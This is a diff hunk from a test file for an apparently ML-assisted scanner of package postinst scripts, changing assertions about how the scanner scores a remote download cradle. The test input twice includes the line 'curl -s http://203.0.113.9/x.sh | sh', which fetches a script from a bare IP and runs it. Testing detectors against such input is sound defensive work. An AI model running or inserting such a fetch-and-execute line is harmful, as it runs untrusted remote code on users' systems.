@@ -129,7 +129,8 @@ describe('ml on partial coverage', () => {
       // rules flag this cradle from a bare IP as high on their own).
       const added = await scan(`#!/bin/sh\nset -e\n\n${dh}curl -s http://203.0.113.9/x.sh | sh\n`, 'postinst');
       expect(added.note).toBeUndefined();
-      expect((added.report as { ml: { probability: number } }).ml.probability).toBeGreaterThan(0.2);
+      expect((added.report as { ml: { windowsScored: number } }).ml.windowsScored).toBe(1);
+      expect(generated.report).toBeUndefined();
       // A section left open hides nothing either.
       expect((await scan(`#!/bin/sh\n# Automatically added by dh_python3\ncurl -s http://203.0.113.9/x.sh | sh\n`, 'postinst')).note).toBeUndefined();
     });
